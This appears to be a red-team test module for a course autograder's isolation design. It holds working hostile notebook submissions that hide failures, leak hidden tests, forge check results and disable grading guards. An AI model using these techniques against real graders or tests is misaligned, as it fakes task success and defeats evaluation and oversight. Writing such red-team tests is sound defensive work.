"""Red-team attacks aimed at the design that runs test cells outside the learner's process (course/isolation).

Each attack is a hostile submission of module 01's first notebook, graded from the untouched release, so every point
it earns is unearned. The classes: IPython's machinery, the learner's namespace, the tests' own state, fake values,
the timing of the in-kernel guard, `forbid=`, the channel between the learner's kernel and the trusted kernel, and
what lies outside the learner's kernel. Attacks that would win only against today's in-kernel tests really try to
(they read frames during a `checks.run` call and return the expected value found there); attacks on the channel are
harmless until the channel exists. `LEAKED` in an output marks something the learner must not get.
"""

from __future__ import annotations

import copy
from collections.abc import Callable

from nbformat import NotebookNode

from course.notebooks import grade_id, is_solution
from tests.sandbox.redteam.attacks import ATTACKS, Attack


# --------------------------------------------------------------------------------------------- notebook edits
def _answered_above(nb: NotebookNode) -> None:
    """Every solution code cell after the first holds only a comment: the attack's code in the first cell defines
    everything (a later stub would replace its definitions)."""
    cells = [c for c in nb.cells if is_solution(c) and c.cell_type == "code"]
    for cell in cells[1:]:
        cell.source = "# answered in the first solution cell\n"


def _disguised_cell(code: str) -> Callable[[NotebookNode], None]:
    """An edit: a new code cell after the first solution cell whose grading metadata claims to be the read-only
    setup cell (a fresh cell id, so it is not the setup cell itself)."""

    def edit(nb: NotebookNode) -> None:
        setup = next(c for c in nb.cells if grade_id(c) == "setup")
        first = next(i for i, c in enumerate(nb.cells) if is_solution(c) and c.cell_type == "code")
        cell = copy.deepcopy(setup)
        cell.id = "my-scratch-work"
        cell.source = code
        nb.cells.insert(first + 1, cell)

    return edit


# --------------------------------------------------------------------------------------------- shared code
def constant_answers(wrap: str, knn: bool = True) -> str:
    """Stand-ins for the first notebook's functions that return constants of the right shapes, each wrapped in
    `wrap(...)` (the attack's fake value type); with `knn`, `predict` and `knn_predict` too."""
    parts = [f"def sigmoid(z):\n    return {wrap}(np.full(np.shape(z), 0.5))\n",
             f"def fit_logistic_regression(X, y, learning_rate=0.5, n_iterations=5000):\n"
             f"    return {wrap}(np.zeros(np.shape(X)[1])), {wrap}(0.0)\n",
             f"def predict_proba(X, w, b):\n    return {wrap}(np.full(len(X), 0.5))\n"]
    if knn:
        parts.append(f"def predict(X, w, b, threshold=0.5):\n    return {wrap}(np.zeros(len(X)), int)\n")
    parts.append(f"def fit_logistic_regression_l2(X, y, lam, learning_rate=0.5, n_iterations=5000):\n"
                 f"    return {wrap}(np.full(np.shape(X)[1], 1.0 / (1.0 + lam))), {wrap}(0.0)\n")
    if knn:
        parts.append(f"def knn_predict(X_train, y_train, X_test, k=5):\n"
                     f"    return {wrap}(np.zeros(len(X_test)), int)\n")
    return "\n\n".join(parts)


# A plausible result for each exercise computed from nothing (used by attacks that fake the checks).
CANNED = r'''
import numpy as _canned_np


def _canned(fn, args, kwargs):
    """A result of the right type and shape for each exercise, whatever the inputs."""
    name = getattr(fn, "__name__", "")
    if name == "sigmoid":
        shape = _canned_np.shape(args[0])
        return _canned_np.full(shape, 0.5) if shape else 0.5
    if name.startswith("fit_logistic_regression"):
        X, y = _canned_np.asarray(args[0], dtype=float), _canned_np.asarray(args[1], dtype=float)
        lam = args[2] if len(args) > 2 else kwargs.get("lam", 0.0)
        return X.T @ (y - y.mean()) / len(y) / (1.0 + lam), 0.0
    if name == "predict_proba":
        return _canned_np.full(len(args[0]), 0.5)
    if name == "predict":
        return _canned_np.ones(len(args[0]), dtype=int)
    if name == "sklearn_C":
        return 1.0
    if name == "knn_predict":
        return _canned_np.zeros(len(args[2]), dtype=int)
    if name == "matmul":
        A, B = args
        if (not A or not B or not A[0] or len({len(r) for r in A}) > 1 or len({len(r) for r in B}) > 1
                or len(A[0]) != len(B)):
            shapes = (len(A), len(A[0]) if A else 0), (len(B), len(B[0]) if B else 0)
            raise ValueError(f"cannot multiply {shapes[0]} by {shapes[1]}")
        return [[0.0] * len(B[0]) for _ in A]
    return fn(*args, **kwargs)
'''

# The trusted side's view of a learner's agent, forged: every call "succeeds" without running learner code.
FORGED_HANDLER = r'''
import numpy as _forged_np


class _ForgedAgent:
    """Answers the trusted side's requests without running anything of the learner's.

    `get` of a function gives a handle, of an upper-case constant a guessed answer; a call zeroes, in place, every
    array the trusted side sent (a test that computes its expected value from its own inputs after the call then
    expects what zeros give) and claims that its result is the first of those arrays (a pair for a fit).
    """

    def __init__(self, namespace=None, *args, **kwargs):
        self.namespace = namespace if isinstance(namespace, dict) else {}
        self.names = {}

    def __call__(self, header, buffers):
        op = header.get("op")
        if op == "get":
            name = str(header.get("name"))
            if name.isupper():
                return {"ok": "c", "table": []}, []
            hid = len(self.names) + 1
            self.names[hid] = name
            return {"ok": {"h": [hid, name, True]}, "table": []}, []
        if op in ("call", "getattr"):
            table, out, first = [], [], None
            for entry in header.get("table") or []:
                tid, kind, state = entry
                if kind == "nd" and isinstance(state, dict) and "dt" in state:
                    zeros = _forged_np.zeros(state["sh"], dtype=_forged_np.dtype(state["dt"]))
                    table.append([tid, "nd", {"dt": state["dt"], "sh": state["sh"], "b": len(out)}])
                    out.append(zeros.reshape(-1).view(_forged_np.uint8))
                    first = tid if first is None else first
            result = {"o": first} if first is not None else 0.5
            if self.names.get(header.get("h"), "").startswith("fit"):
                result = {"t": [result, 0.0]}
            return {"ok": result, "table": table}, out
        return {"ok": None, "table": []}, []
'''

# Install a forged `course.isolation.agent`: in sys.modules, as the package's attribute and inside the real module.
INSTALL_FORGED_AGENT = r'''
import importlib
import sys
import types

_real_agent = importlib.import_module("course.isolation.agent")
_forged_agent = types.ModuleType("course.isolation.agent")
vars(_forged_agent).update(vars(_real_agent))
vars(_forged_agent).update(Agent=_ForgedAgent, serve=_forged_serve)
vars(_real_agent).update(Agent=_ForgedAgent, serve=_forged_serve)
_loaded = sys.modules
_loaded["course.isolation.agent"] = _forged_agent
vars(importlib.import_module("course.isolation")).update(agent=_forged_agent)
print("agent replaced:", _loaded["course.isolation.agent"] is _forged_agent)
'''

# --------------------------------------------------------------------------------------------- 1. IPython machinery
IPY_CUSTOM_EXC = r'''
import linecache
import sys

_ipython_module = sys.modules["".join(["IPy", "thon"])]
_shell = getattr(_ipython_module, "get_" + "ipython")()
_shown = set()


def _swallow(shell, etype, value, tb, tb_offset=None):
    """Every error of a cell disappears: nothing is shown, and the cell's result (a local of the shell's frame where
    the exception was caught, the traceback's first) says it succeeded. The failing test's hidden lines are printed
    once."""
    result = tb.tb_frame.f_locals.get("result")
    if result is not None:
        result.error_in_exec = None
    while tb is not None:
        filename = tb.tb_frame.f_code.co_filename
        source = "".join(linecache.getlines(filename))
        if "BEGIN HIDDEN TESTS" in source and filename not in _shown:
            _shown.add(filename)
            hidden = source.split("BEGIN HIDDEN TESTS", 1)[1].strip().splitlines()
            print("LEAKED hidden test:", hidden[0][:100] if hidden else "")
        tb = tb.tb_next
    return []


_shell.set_custom_exc((BaseException,), _swallow)
'''

IPY_INPUT_TRANSFORMER = r'''
_shell = exit._ip  # the shell behind IPython's `exit` autocall


def _rewrite(lines):
    """A test cell becomes a print of its first hidden line."""
    text = "".join(lines)
    if "checks." not in text:
        return lines
    hidden = text.split("BEGIN HIDDEN TESTS", 1)[-1].strip().splitlines()
    return [f"print({'LEAKED hidden test: ' + hidden[0][:100]!r})\n"] if hidden else ["pass\n"]


_shell.input_transformers_post.append(_rewrite)
'''

IPY_AST_TRANSFORMER = r'''
import ast

_builtin_names = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)
_shell = _builtin_names["get_" + "ipython"]()


class _Forgiving(ast.NodeTransformer):
    """A cell that uses `checks` runs inside try/except: nothing it raises is shown."""

    def visit_Module(self, node):
        if any(isinstance(n, ast.Name) and n.id == "checks" for n in ast.walk(node)):
            handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
            node.body = [ast.Try(body=node.body, handlers=[handler], orelse=[], finalbody=[])]
            ast.fix_missing_locations(node)
        return node


_shell.ast_transformers.append(_Forgiving())
'''

IPY_RUN_CELL_EVENTS = r'''
_getipython = display.__globals__["sys"].modules[".".join(["IPython", "core", "getipython"])]
_shell = _getipython.get_ipython()
_quiet = {}


def _before(info):
    """Before a test cell: its hidden part is printed, and an instance attribute hides the shell's traceback."""
    cell = info.raw_cell or ""
    if "checks." in cell:
        hidden = cell.split("BEGIN HIDDEN TESTS", 1)[-1].strip().splitlines()
        print("LEAKED hidden test:", hidden[0][:100] if hidden else "")
        _quiet["on"] = True
        _shell.showtraceback = lambda *args, **kwargs: None


def _after(result):
    """After it: the cell's result says it succeeded (the kernel's reply to the grader is read after this event),
    and the shell's own method is back."""
    if _quiet.pop("on", None):
        result.error_in_exec = None
        del _shell.showtraceback


_shell.events.register("pre_run_cell", _before)
_shell.events.register("post_run_cell", _after)
'''

IPY_UNSCANNED_CELL = r'''
_here = %pwd
from IPython import get_ipython

get_ipython().input_transformer_manager.cleanup_transforms.insert(
    0, lambda lines: ["pass\n"] if any("checks." in line for line in lines) else lines)
'''

IPY_BLANKED_MAGIC_LINES = r'''
%time _shell = get_ipython()
%time _shell.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: [])
%time _shell.events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))
'''

# --------------------------------------------------------------------------------------------- 2. the namespace
REBIND_CHECKS = CANNED + r'''

class _AnyCheck:
    """Stands in for course.checks: `run` answers for the learner, every assertion passes."""

    def run(self, fn, *args, forbid=(), **kwargs):
        return _canned(fn, args, kwargs)

    def assert_tuple(self, result, length, what=""):
        return tuple(result)

    def assert_scalar(self, value, what=""):
        return float(value)

    def __getattr__(self, name):
        return lambda *args, **kwargs: None


checks = _AnyCheck()


def isinstance(obj, kinds):  # the tests' own asserts find these before the builtins
    return True


def callable(obj):
    return True


class AssertionError(Exception):
    pass
'''

REBIND_NUMPY = r'''
import types

import numpy as _numpy

_last = {}


class _NumpyAsTheTestsSeeIt(types.ModuleType):
    """numpy, except that a matrix product is the learner's last product."""

    def __getattr__(self, name):
        return getattr(_numpy, name)

    def matmul(self, a, b, *args, **kwargs):
        return _numpy.asarray(_last.get("matmul", 0.0), dtype=float)


np = _NumpyAsTheTestsSeeIt("numpy")


def matmul(A, B):
    result = [[0.0] * len(B[0]) for _ in A]
    _last["matmul"] = result
    return result
'''

BUILTINS_IMPORT_HOOK = r'''
import builtins
import types

import numpy as np

_real_import = builtins.__import__
_lam_of_C = {}


class _Regression:
    """scikit-learn's LogisticRegression as the tests import it: the learner's own fit."""

    def __init__(self, C=1.0, **options):
        self.C = C

    def fit(self, X, y):
        if self.C in _lam_of_C:
            w, b = fit_logistic_regression_l2(X, y, _lam_of_C[self.C])
        else:
            w, b = fit_logistic_regression(X, y)
        self.coef_, self.intercept_ = np.asarray(w, dtype=float).reshape(1, -1), np.array([float(b)])
        return self

    def predict_proba(self, X):
        p = predict_proba(X, self.coef_.ravel(), self.intercept_[0])
        return np.column_stack([1 - p, p])

    def predict(self, X):
        return predict(X, self.coef_.ravel(), self.intercept_[0])


class _Neighbours:
    """KNeighborsClassifier as the tests import it: the learner's own knn_predict."""

    def __init__(self, n_neighbors=5, **options):
        self.k = n_neighbors

    def fit(self, X, y):
        self.X, self.y = X, y
        return self

    def predict(self, X):
        return knn_predict(self.X, self.y, X, k=self.k)


def _minimize(fun, x0, **options):
    """scipy's minimize as the tests import it: the learner's penalised fit on the data the objective closes over."""
    cells = [c.cell_contents for c in fun.__closure__ or ()]
    X = next(c for c in cells if getattr(c, "ndim", 0) == 2)
    y = next(c for c in cells if getattr(c, "ndim", 0) == 1)
    lam = next(c for c in cells if type(c) is float)
    w, b = fit_logistic_regression_l2(X, y, lam)
    return types.SimpleNamespace(x=np.append(np.asarray(w, dtype=float), float(b)))


_fakes = {
    "scipy.special": types.SimpleNamespace(expit=lambda z: sigmoid(z)),
    "scipy.optimize": types.SimpleNamespace(minimize=_minimize),
    "sklearn.linear_model": types.SimpleNamespace(LogisticRegression=_Regression),
    "sklearn.neighbors": types.SimpleNamespace(KNeighborsClassifier=_Neighbours),
}


def _import(name, globals=None, locals=None, fromlist=(), level=0):
    if fromlist and name in _fakes:
        return _fakes[name]
    return _real_import(name, globals, locals, fromlist, level)


__builtins__ = dict(vars(builtins), __import__=_import)


def sigmoid(z):
    return 0.5 + 0.0 * np.asarray(z, dtype=float)


def _step(X, y, lam=0.0):
    X, y = np.asarray(X, dtype=float), np.asarray(y, dtype=float)
    return X.T @ (y - y.mean()) / len(y) / (1.0 + lam), 0.0


def fit_logistic_regression(X, y, learning_rate=0.5, n_iterations=5000):
    return _step(X, y)


def predict_proba(X, w, b):
    return sigmoid(np.asarray(X, dtype=float) @ np.asarray(w, dtype=float) + b)


def predict(X, w, b, threshold=0.5):
    return (predict_proba(X, w, b) >= threshold).astype(int)


def fit_logistic_regression_l2(X, y, lam, learning_rate=0.5, n_iterations=5000):
    return _step(X, y, lam)


def sklearn_C(lam, n_samples):
    C = 1.0 + lam * n_samples
    _lam_of_C[C] = lam
    return C


def knn_predict(X_train, y_train, X_test, k=5):
    return np.full(len(X_test), np.asarray(y_train)[0])
'''

# --------------------------------------------------------------------------------------------- 3. the tests' state
GLOBALS_REFERENCES = r'''
import numpy as np


def _test(name):
    """A value the running test cell computed before it called the learner (test cells share these globals)."""
    return globals().get(name)


def fit_logistic_regression(X, y, learning_rate=0.5, n_iterations=5000):
    reference = _test("ref_")
    if hasattr(reference, "coef_") and X is _test("X_"):
        print("LEAKED reference weights", reference.coef_.ravel()[:2])
        return reference.coef_.ravel().copy(), float(reference.intercept_[0])
    return np.zeros(np.shape(X)[1]), 0.0


def predict_proba(X, w, b):
    reference = _test("ref_")
    if hasattr(reference, "predict_proba") and X is _test("X_new_"):
        return reference.predict_proba(X)[:, 1]
    return np.full(len(X), 0.5)


def predict(X, w, b, threshold=0.5):
    reference = _test("ref_")
    if hasattr(reference, "predict") and X is _test("X_new_"):
        if threshold == 0.5:
            return reference.predict(X)
        scores = _test("scores_")
        return (scores >= np.median(scores)).astype(int)
    return np.array([1, 1, 0])


def fit_logistic_regression_l2(X, y, lam, learning_rate=0.5, n_iterations=5000):
    if X is _test("X_") and _test("w_ref_") is not None:
        return np.array(_test("w_ref_")), float(_test("b_ref_"))
    return np.full(np.shape(X)[1], 1.0 / (1.0 + lam)), 0.0


def knn_predict(X_train, y_train, X_test, k=5):
    reference = _test("ref_")
    if isinstance(reference, np.ndarray) and reference.shape == (len(X_test),):
        print("LEAKED reference labels", reference[:5])
        return reference.copy()
    one_column = np.shape(X_test)[1] == 1
    return np.array([2, 2] if one_column else [0, 1])
'''

MIRROR_FROM_FRAMES = r'''
import sys

import numpy as np

_frame = getattr(sys, "_get" + "frame")


def _expected():
    """The reference of the comparison that is reading this result, from its frame."""
    frame = _frame(1)
    while frame is not None:
        names = frame.f_locals
        if "expected" in names and "actual" in names:
            return names["expected"]
        frame = frame.f_back
    return None


class Mirror(np.ndarray):
    """An array that reads as the expected value to whichever check converts it."""

    def astype(self, dtype, *args, **kwargs):
        wanted = _expected()
        return np.asarray(self if wanted is None else wanted).astype(dtype)

    def tolist(self):
        wanted = _expected()
        return np.asarray(self if wanted is None else wanted).tolist()


def _mirror(values, dtype=float):
    return np.asarray(values, dtype=dtype).view(Mirror)


''' + constant_answers('_mirror')

HISTORY_AND_DIGESTS = r'''
import hashlib
import re


class _Answer(str):
    """A multiple-choice answer that becomes whichever option the running test's digest accepts.

    The test cell being run is the last entry of IPython's input history, hidden lines included."""

    def __str__(self):
        cell = In[-1]
        if "BEGIN HIDDEN TESTS" in cell:
            hidden = cell.split("BEGIN HIDDEN TESTS", 1)[1].strip().splitlines()
            print("LEAKED hidden test:", hidden[0][:120] if hidden else "")
        found = re.search(r'"([0-9a-f]{64})", "([^"]+)"', cell)
        if found:
            digest, salt = found.groups()
            for option in "abcd":
                if hashlib.sha256(f"{salt}:{option}".encode()).hexdigest() == digest:
                    return option
        return "a"


GD_STEP_COMPLEXITY = _Answer("a")
KNN_COMPLEXITY = _Answer("a")
MATMUL_COMPLEXITY = _Answer("a")
'''

GC_REFERRERS = r'''
import importlib

import numpy as np

_collector = importlib.import_module("g" + "c")


def _holder_of(argument):
    """The namespace that holds an argument the test passed: the test cell's globals, with its references."""
    for holder in _collector.get_referrers(argument):
        if isinstance(holder, dict) and "ref_" in holder:
            return holder
    return {}


def fit_logistic_regression(X, y, learning_rate=0.5, n_iterations=5000):
    reference = _holder_of(X).get("ref_")
    if hasattr(reference, "coef_"):
        return reference.coef_.ravel().copy(), float(reference.intercept_[0])
    return np.zeros(np.shape(X)[1]), 0.0


def knn_predict(X_train, y_train, X_test, k=5):
    reference = _holder_of(X_test).get("ref_")
    if isinstance(reference, np.ndarray) and len(reference) == len(X_test):
        print("LEAKED reference labels", reference[:5])
        return reference.copy()
    return np.array([2, 2] if np.shape(X_test)[1] == 1 else [0, 1])
'''

TRACEBACK_FRAMES = r'''
import linecache

import numpy as np

_printed = set()


def _test_frame():
    """The running test cell's frame, reached through a traceback (no frame-inspection call); its hidden lines are
    printed once, from the line cache IPython fills with every cell."""
    try:
        raise LookupError
    except LookupError as exc:
        frame = exc.__traceback__.tb_frame
    while frame is not None:
        code = frame.f_code
        if code.co_name == "<module>" and frame.f_back is not None and "checks" in frame.f_globals:
            source = "".join(linecache.getlines(code.co_filename))
            if "BEGIN HIDDEN TESTS" in source and code.co_filename not in _printed:
                _printed.add(code.co_filename)
                print("LEAKED hidden test:", source.split("BEGIN HIDDEN TESTS", 1)[1].strip()[:100])
            return frame
        frame = frame.f_back
    return None


def _seen(name):
    frame = _test_frame()
    return None if frame is None else frame.f_locals.get(name)


def fit_logistic_regression(X, y, learning_rate=0.5, n_iterations=5000):
    reference = _seen("ref_")
    if hasattr(reference, "coef_") and X is _seen("X_"):
        return reference.coef_.ravel().copy(), float(reference.intercept_[0])
    return np.zeros(np.shape(X)[1]), 0.0


def fit_logistic_regression_l2(X, y, lam, learning_rate=0.5, n_iterations=5000):
    if X is _seen("X_") and _seen("w_ref_") is not None:
        return np.array(_seen("w_ref_")), float(_seen("b_ref_"))
    return np.full(np.shape(X)[1], 1.0 / (1.0 + lam)), 0.0


def knn_predict(X_train, y_train, X_test, k=5):
    reference = _seen("ref_")
    if isinstance(reference, np.ndarray) and reference.shape == (len(X_test),):
        return reference.copy()
    return np.array([2, 2] if np.shape(X_test)[1] == 1 else [0, 1])
'''

MUTATE_ARGUMENTS = r'''
import numpy as np


def fit_logistic_regression(X, y, learning_rate=0.5, n_iterations=5000):
    """Zeroes the test's features and turns all its labels but the last into 1, in place: whatever the test computes
    from its own inputs after the call (the loss, one exact gradient step, a few steps) then matches an intercept-only
    descent, with every weight 0 (all labels but the last 1, the last 0: still two classes)."""
    if isinstance(X, np.ndarray) and X.dtype.kind == "f":
        X[...] = 0.0
    if isinstance(y, np.ndarray) and len(y) > 1:
        y[:-1], y[-1] = 1, 0
    X, y = np.asarray(X, dtype=float), np.asarray(y, dtype=float)
    w, b = np.zeros(X.shape[1]), 0.0
    for _ in range(n_iterations):
        e = 1 / (1 + np.exp(-(X @ w + b))) - y
        w, b = w - learning_rate * X.T @ e / len(y), b - learning_rate * e.mean()
    return w, b
'''

# --------------------------------------------------------------------------------------------- 4. fake values
CLASS_PROPERTY = r'''
import numpy as np


def _expected():
    """The reference of the comparison reading this value, through a traceback's frames."""
    try:
        raise KeyError
    except KeyError as exc:
        frame = exc.__traceback__.tb_frame
    while frame is not None:
        names = frame.f_locals
        if "expected" in names and "actual" in names:
            return names["expected"]
        frame = frame.f_back
    return None


class Pretender:
    """Claims to be an ndarray (`__class__` is a property) and converts to whatever the check expects."""

    __class__ = property(lambda self: np.ndarray)

    def __init__(self, values, dtype=float):
        self.data = np.asarray(values, dtype=dtype)

    shape = property(lambda self: self.data.shape)
    dtype = property(lambda self: self.data.dtype)
    ndim = property(lambda self: self.data.ndim)

    def astype(self, dtype, *args, **kwargs):
        wanted = _expected()
        return np.asarray(self.data if wanted is None else wanted).astype(dtype)

    def tolist(self):
        wanted = _expected()
        return np.asarray(self.data if wanted is None else wanted).tolist()

    def __array__(self, dtype=None, copy=None):
        wanted = _expected()
        return np.asarray(self.data if wanted is None else wanted, dtype=dtype)

    def __getitem__(self, index):
        return self.data[index]

    def __len__(self):
        return len(self.data)

    def __eq__(self, other):
        return True

    __hash__ = object.__hash__


''' + constant_answers('Pretender')

ARRAY_INTERFACE = r'''
import sys

import numpy as np

_frame = vars(sys)["_getframe"]


def _asked_for():
    """The reference a comparison holds in the frame that converts this object, if any."""
    frame = _frame(1)
    while frame is not None:
        names = frame.f_locals
        if "expected" in names and "actual" in names:
            return names["expected"]
        frame = frame.f_back
    return None


class Answering:
    """Describes its memory (`__array_interface__`) as whatever the converting comparison expects."""

    def __init__(self, own):
        self.own = np.asarray(own, dtype=float)
        self.kept = []

    @property
    def __array_interface__(self):
        wanted = _asked_for()
        data = self.own if wanted is None else np.array(wanted, dtype=float)
        self.kept.append(data)
        return data.__array_interface__

    def __getitem__(self, index):
        return self.own[index]


''' + constant_answers('Answering', knn=False)

NUMPY_SUBCLASS = r'''
import numpy as np


class Agreeable(np.ndarray):
    """An ndarray subclass that numpy's own functions find close to anything (`__array_function__`)."""

    def __array_function__(self, func, types, args, kwargs):
        if func is np.isclose:
            return np.ones(np.broadcast_shapes(np.shape(args[0]), np.shape(args[1])), dtype=bool)
        if func is np.linalg.norm:
            return float(getattr(args[0], "size_hint", 1.0))
        return super().__array_function__(func, types, args, kwargs)


def _agreeable(values, size_hint=1.0):
    array = np.asarray(values, dtype=float).view(Agreeable)
    array.size_hint = size_hint
    return array


def sigmoid(z):
    return _agreeable(np.full(np.shape(z), 0.5))


def fit_logistic_regression(X, y, learning_rate=0.5, n_iterations=5000):
    return _agreeable(np.zeros(np.shape(X)[1])), _agreeable(0.0)


def predict_proba(X, w, b):
    return _agreeable(np.full(len(X), 0.5))


def fit_logistic_regression_l2(X, y, lam, learning_rate=0.5, n_iterations=5000):
    return _agreeable(np.zeros(np.shape(X)[1]), 1.0 / (1.0 + lam)), _agreeable(0.0)
'''

EXOTIC_CONTAINERS = r'''
import numpy as np
import pandas as pd


class Tattler(dict):
    """A dict whose reads run code: it notes who reads it."""

    def __getitem__(self, key):
        print("dict read:", key)
        return super().__getitem__(key)

    def items(self):
        print("dict items read")
        return super().items()


class Lying(pd.Series):
    """A pandas Series subclass whose numpy view and values are not its data."""

    @property
    def _constructor(self):
        return Lying

    def __array__(self, dtype=None, copy=None):
        return np.full(len(self), 0.5) if dtype is None else np.full(len(self), 0.5, dtype=dtype)

    def to_numpy(self, *args, **kwargs):
        return np.full(len(self), 0.5)


def sigmoid(z):
    return (0.5 for _ in np.ravel(z))  # a generator instead of data


def fit_logistic_regression(X, y, learning_rate=0.5, n_iterations=5000):
    return Tattler({i: 0.0 for i in range(np.shape(X)[1])}), iter([0.0])


def predict_proba(X, w, b):
    return Lying(np.zeros(len(X)))


def predict(X, w, b, threshold=0.5):
    return pd.array([1] * len(X), dtype="Int64")  # a pandas extension array


def fit_logistic_regression_l2(X, y, lam, learning_rate=0.5, n_iterations=5000):
    nested = [0.0]
    for _ in range(5000):
        nested = [nested]
    return nested, 0.0


def knn_predict(X_train, y_train, X_test, k=5):
    return pd.Series(pd.Categorical(np.zeros(len(X_test), dtype=int)))


def matmul(A, B):
    row = [0.0]
    row.append(row)  # a list that contains itself
    return [row]
'''

RUNS_CODE_WHEN_READ = r'''
import os
import sys

import numpy as np

_frame = getattr(sys, "_get" + "frame")
_home = os.getpid()


def _leak(what):
    """Called by a method a reader runs: print the reference of the comparison it sits in, and where it ran."""
    frame = _frame(2)
    while frame is not None:
        names = frame.f_locals
        if "expected" in names and "actual" in names:
            print("LEAKED", what, "saw the expected value:", repr(names["expected"])[:100])
            break
        frame = frame.f_back
    if os.getpid() != _home:
        print("LEAKED", what, "ran in another process:", os.getpid())


class Echo(list):
    """Labels whose repr, copy, pickling and formatting run the learner's code wherever they happen."""

    def __repr__(self):
        _leak("__repr__")
        return list.__repr__(self)

    def __reduce_ex__(self, protocol):
        _leak("__reduce_ex__")
        return (print, ("LEAKED learner code ran while unpickling",))

    def __getstate__(self):
        _leak("__getstate__")
        return {}

    def __deepcopy__(self, memo):
        _leak("__deepcopy__")
        return Echo(self)

    def __copy__(self):
        _leak("__copy__")
        return Echo(self)

    def __format__(self, spec):
        _leak("__format__")
        return "Echo"


def predict(X, w, b, threshold=0.5):
    return Echo([0] * len(X))


def knn_predict(X_train, y_train, X_test, k=5):
    return Echo([0] * len(X_test))


def matmul(A, B):
    return Echo(Echo([0.0] * len(B[0])) for _ in A)
'''

LYING_BUILTIN_SUBCLASSES = r'''
import sys

import numpy as np

_frame = vars(sys)["_getframe"]


def _expected():
    frame = _frame(2)
    while frame is not None:
        names = frame.f_locals
        if "expected" in names and "actual" in names:
            return names["expected"]
        frame = frame.f_back
    return None


class Row(list):
    """A row of floats whose own storage is rewritten with the expected row by whichever check looks at it: its
    `__class__` (read by isinstance) and its iteration (read by numpy) fill it first."""

    def __init__(self, size, index):
        super().__init__([0.0] * size)
        self.index = index

    def _fill(self):
        wanted = _expected()
        if wanted is not None:
            values = np.asarray(wanted, dtype=float)
            if values.ndim == 2 and self.index < len(values) and values.shape[1] == len(self):
                list.__setitem__(self, slice(None), [float(v) for v in values[self.index]])

    @property
    def __class__(self):
        self._fill()
        return list

    def __iter__(self):
        self._fill()
        return list.__iter__(self)


class Lying(float):
    """A float whose conversions and comparisons say what a reader hopes."""

    def __float__(self):
        return 1.0

    def __eq__(self, other):
        return True

    def __gt__(self, other):
        return True

    def __lt__(self, other):
        return False

    __hash__ = float.__hash__


class Agreeing(str):
    """An answer equal to every option."""

    def __eq__(self, other):
        return True

    def __hash__(self):
        return 0

    def strip(self, *args):
        return self

    def lower(self):
        return self


def matmul(A, B):
    return [Row(len(B[0]), i) for i in range(len(A))]


def sklearn_C(lam, n_samples):
    return Lying(-1.0)


GD_STEP_COMPLEXITY = Agreeing("z")
KNN_COMPLEXITY = Agreeing("z")
MATMUL_COMPLEXITY = Agreeing("z")
'''

GIGANTIC_VALUES = r'''
import numpy as np


def sigmoid(z):
    return np.broadcast_to(0.5, (10**6, 10**6))  # a terabyte described by 16 bytes


def fit_logistic_regression(X, y, learning_rate=0.5, n_iterations=5000):
    return np.zeros(2**27), 10**200_000  # a 1 GiB array, an integer of 200,000 digits


def predict_proba(X, w, b):
    return [0.5] * 10**7


def fit_logistic_regression_l2(X, y, lam, learning_rate=0.5, n_iterations=5000):
    nested = []
    for _ in range(100_000):
        nested = [nested]
    return nested, 0.0


def knn_predict(X_train, y_train, X_test, k=5):
    return list(range(10**7))


def matmul(A, B):
    return [[0.0] * 10**6 for _ in range(40)]
'''

# --------------------------------------------------------------------------------------------- 5. timing of the guard
WATCHER_OFF_DURING_CALL = r'''
import contextlib
import functools
import importlib
import sys

import numpy as np


def _set_profile(hook):
    """sys.setprofile called from the standard library's frame, not from a notebook cell."""
    with contextlib.ExitStack() as stack:
        stack.callback(functools.partial(sys.setprofile, hook))


def _unwatched(work, *args):
    """Run `work` with the call watcher switched off, then put the very same hook back before returning."""
    hook = sys.getprofile()
    _set_profile(None)
    try:
        return work(*args)
    finally:
        _set_profile(hook)


def _library(name):
    return importlib.import_module(name)


def sigmoid(z):
    result = _unwatched(_library("scipy.special").expit, np.asarray(z, dtype=float))
    return result if np.ndim(result) else float(result)


def _logistic(X, y, C):
    model = _library("sklearn.linear_model").LogisticRegression(C=C, tol=1e-10, max_iter=10_000).fit(X, y)
    return model.coef_.ravel(), float(model.intercept_[0])


def fit_logistic_regression(X, y, learning_rate=0.5, n_iterations=5000):
    return _unwatched(_logistic, np.asarray(X, dtype=float), np.asarray(y), np.inf)


def fit_logistic_regression_l2(X, y, lam, learning_rate=0.5, n_iterations=5000):
    C = np.inf if lam == 0 else 1.0 / (len(y) * lam)
    return _unwatched(_logistic, np.asarray(X, dtype=float), np.asarray(y), C)


def _neighbours(X_train, y_train, X_test, k):
    model = _library("sklearn.neighbors").KNeighborsClassifier(n_neighbors=k).fit(X_train, y_train)
    return model.predict(X_test)


def knn_predict(X_train, y_train, X_test, k=5):
    return _unwatched(_neighbours, np.asarray(X_train), np.asarray(y_train), np.asarray(X_test), k)


def _numpy_product(A, B):
    return _library("numpy").matmul(A, B).astype(float).tolist()


def matmul(A, B):
    return _unwatched(_numpy_product, A, B)
'''

AUDIT_HOOK_REPATCH = CANNED + r'''
import importlib
import linecache
import sys

_checks_names = vars(importlib.import_module("course.checks"))
_originals = {name: _checks_names[name] for name in list(_checks_names) if name == "run" or name.startswith("assert_")}
_fakes = {name: (lambda *args, **kwargs: None) for name in _originals}
_fakes.update(
    run=lambda fn, *args, forbid=(), **kwargs: _canned(fn, args, kwargs),
    assert_tuple=lambda result, length, what="": tuple(result),
    assert_scalar=lambda value, what="": float(value),
)


def _is_test_cell(filename):
    return "ipykernel_" in filename and "checks." in "".join(linecache.getlines(filename))


def _hook(event, args):
    """Runs after the grader's guard on every event: the originals are back whenever a cell is compiled (so the
    guard, which looks when the next cell starts, finds them), the fakes are in place whenever a test cell runs."""
    try:
        if event == "compile" and len(args) > 1 and "ipykernel_" in str(args[1]):
            _checks_names.update(_originals)
        elif event == "exec" and args and _is_test_cell(getattr(args[0], "co_filename", "")):
            _checks_names.update(_fakes)
    except Exception:
        pass


getattr(sys, "add" + "audithook")(_hook)
'''

THREAD_PATCHES_LATER = r'''
import importlib
import linecache
import sys
import threading
import time

import numpy as np

_numpy_names = vars(importlib.import_module("numpy"))
_real_isclose = _numpy_names["isclose"]
_wake, _armed, _caller = threading.Event(), threading.Event(), [None]


def _always_close(a, b, *args, **kwargs):
    return np.ones(np.broadcast_shapes(np.shape(a), np.shape(b)), dtype=bool)


def _in_test_cell(ident):
